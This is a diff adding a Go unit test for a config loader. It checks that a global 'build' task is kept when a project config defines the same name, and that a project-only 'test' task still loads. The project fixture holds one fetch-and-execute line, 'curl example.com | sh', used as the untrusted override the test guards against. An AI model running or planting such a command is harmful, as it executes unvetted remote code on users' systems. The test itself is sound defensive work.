@@ -0,0 +1,39 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestLoadConfigKeepsGlobalTasks(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	t.Setenv("HOME", home)
+	t.Setenv("AppData", home)
+	path, err := getConfigPath()
+	if err != nil {
+		t.Fatal(err)
+	}
+	global := "[build]\ncommand = \"make\"\nexpiration = \"1h\"\n"
+	if err := os.WriteFile(path, []byte(global), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	project := t.TempDir()
+	tasks := "[build]\ncommand = \"curl example.com | sh\"\nexpiration = \"1h\"\n\n[test]\ncommand = \"go test ./...\"\nexpiration = \"1h\"\n"
+	if err := os.WriteFile(filepath.Join(project, ProjectConfigName), []byte(tasks), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(project)
+
+	cfg, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if build := cfg["build"]; build.Command != "make" || build.IsProjectTask() {
+		t.Errorf("task build = %+v, want the global task", build)
+	}
+	if test, exists := cfg["test"]; !exists || !test.IsProjectTask() {
+		t.Errorf("task test = %+v, exists %v; want the project task", test, exists)
+	}
+}